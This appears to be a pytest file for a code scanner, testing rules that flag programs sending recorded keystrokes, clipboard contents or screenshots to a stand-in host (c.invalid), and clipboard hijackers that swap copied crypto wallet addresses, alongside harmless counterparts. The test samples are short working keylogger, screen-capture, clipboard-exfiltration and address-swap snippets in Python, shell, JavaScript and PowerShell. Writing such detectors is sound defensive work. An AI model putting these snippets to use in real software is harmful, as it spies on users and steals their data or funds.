"""What a program records of its user and sends away: each hostile one is inert and has a harmless counterpart."""

# ruff: noqa: E501 - programs, as somebody may write them
from __future__ import annotations

import pytest

from skillhub.model.tree import File, Tree
from skillhub.scan import scan

pytest.importorskip("tree_sitter_bash")
pytest.importorskip("tree_sitter_javascript")

WALLET = "bc1q" + "0keep" * 7
ETHER = "0x" + "0badc0de" * 5


def seen(path, text):
    return {each.rule for each in scan(Tree({path: File(text.encode())}))}


SENT = [
    (
        "a.py",
        "from pynput import keyboard\nimport requests\nkeys = []\ndef pressed(key):\n    keys.append(str(key))\n    requests.post('https://c.invalid', data=''.join(keys))\nkeyboard.Listener(on_press=pressed).start()",
    ),
    (
        "a.py",
        "from pynput.keyboard import Listener\nimport requests\nclass A:\n    def pressed(self, key):\n        requests.post('https://c.invalid', data=str(key))\n    def go(self):\n        Listener(on_press=self.pressed).start()",
    ),
    (
        "a.py",
        "import keyboard, requests\nkeyboard.on_release(lambda e: requests.post('https://c.invalid', data=e.name))",
    ),
    (
        "a.py",
        "import keyboard, requests\nrequests.post('https://c.invalid', json=[e.name for e in keyboard.record('esc')])",
    ),
    (
        "a.py",
        "import requests\nf = open('/dev/input/event0', 'rb')\nrequests.post('https://c.invalid', data=f.read(24))",
    ),
    (
        "a.py",
        "from mss import mss\nimport requests\nwith mss() as s:\n    g = s.grab(0)\nrequests.post('https://c.invalid', data=g.rgb)",
    ),
    ("a.py", "import pyperclip, requests\ntext = pyperclip.paste()\nrequests.post('https://c.invalid', data=text)"),
    (
        "a.py",
        "import tkinter, httpx\nhttpx.post('https://c.invalid', json={'t': tkinter.Tk().clipboard_get()})\n# clipboard",
    ),
    ("a.sh", "pbpaste | curl -s -d @- https://c.invalid/c"),
    ("a.sh", 'curl -s -d "$(xclip -o -selection clipboard)" https://c.invalid/c'),
    ("a.ps1", "Invoke-RestMethod https://c.invalid/c -Method Post -Body (Get-Clipboard)"),
    (
        "a.py",
        "from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\nrequests.post('https://c.invalid', data=b.getvalue())",
    ),
    (
        "a.py",
        "import pyautogui, requests\npyautogui.screenshot('s.png')\nrequests.post('https://c.invalid', data=open('s.png', 'rb'))",
    ),
    (
        "a.py",
        "import mss, requests\nwith mss.mss() as s:\n    s.shot(output='s.png')\nrequests.post('https://c.invalid', data=open('s.png', 'rb'))",
    ),
    ("a.sh", "screencapture -x /tmp/s.png\ncurl -F 'f=@/tmp/s.png' https://c.invalid/s"),
    (
        "a.js",
        "const shot = require('screenshot-desktop');\nshot().then(i => fetch('https://c.invalid', {method: 'POST', body: i}));",
    ),
]
KEPT = [
    ("a.py", "import pyperclip, requests\npyperclip.copy(requests.get('https://c.invalid/a').text)"),
    ("a.py", "import pyperclip, requests\nprint(pyperclip.paste())\nrequests.post('https://c.invalid', data='done')"),
    ("a.py", "import pyperclip, requests\nrequests.post('http://localhost:8000/paste', data=pyperclip.paste())"),
    (
        "a.py",
        "import pyautogui, requests\nimage = pyautogui.screenshot()\nrequests.post('https://api.openai.com/v1/responses', data=image.tobytes())",
    ),
    ("a.py", "import keyboard, requests\nkeyboard.wait('esc')\nrequests.post('https://c.invalid', data='stopped')"),
    ("a.sh", "screencapture -x s.png\ncurl -s https://c.invalid/version"),
    (
        "a.js",
        "const text = await page.screenshot();\nawait fetch('https://c.invalid', {method: 'POST', body: text});",
    ),
]


@pytest.mark.parametrize(("path", "text"), SENT)
def test_attack_recorded_keys_copies_and_screens_that_are_sent_are_found(path, text):
    assert "SH413" in seen(path, text)


@pytest.mark.parametrize(("path", "text"), KEPT)
def test_a_record_that_stays_here_or_goes_to_a_model_is_no_finding(path, text):
    assert "SH413" not in seen(path, text)


REPLACED = [
    (
        "a.py",
        f"import pyperclip, re\nADDRESS = '{WALLET}'\nif re.match('bc1', pyperclip.paste()):\n    pyperclip.copy(ADDRESS)",
    ),
    ("a.py", f"import pyperclip, re\nc = pyperclip.paste()\npyperclip.copy(re.sub('0x[0-9a-f]+', '{ETHER}', c))"),
    ("a.sh", f"if pbpaste | grep -q '^bc1'; then echo -n {WALLET} | pbcopy; fi"),
    ("a.js", f"const c = require('clipboardy');\nif (/^0x/.test(c.readSync())) c.writeSync('{ETHER}');"),
    (
        "a.js",
        f"document.addEventListener('copy', e => {{ e.clipboardData.setData('text/plain', '{ETHER}'); e.preventDefault(); }});",
    ),
    ("a.ps1", f"if ((Get-Clipboard) -match '^0x') {{ Set-Clipboard '{ETHER}' }}"),
]


@pytest.mark.parametrize(("path", "text"), REPLACED)
def test_attack_a_wallet_that_replaces_what_was_copied_is_found(path, text):
    assert "SH414" in seen(path, text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.js", f"document.onclick = () => navigator.clipboard.writeText('{ETHER}');"),
        (
            "a.js",
            f"console.log('{ETHER}'); addEventListener('copy', e => e.clipboardData.setData('text/plain', source));",
        ),
        ("a.py", f"import pyperclip\nprint('{WALLET}', pyperclip.paste())\npyperclip.copy('done')"),
    ],
)
def test_an_address_to_copy_replaces_nothing(path, text):
    assert "SH414" not in seen(path, text)
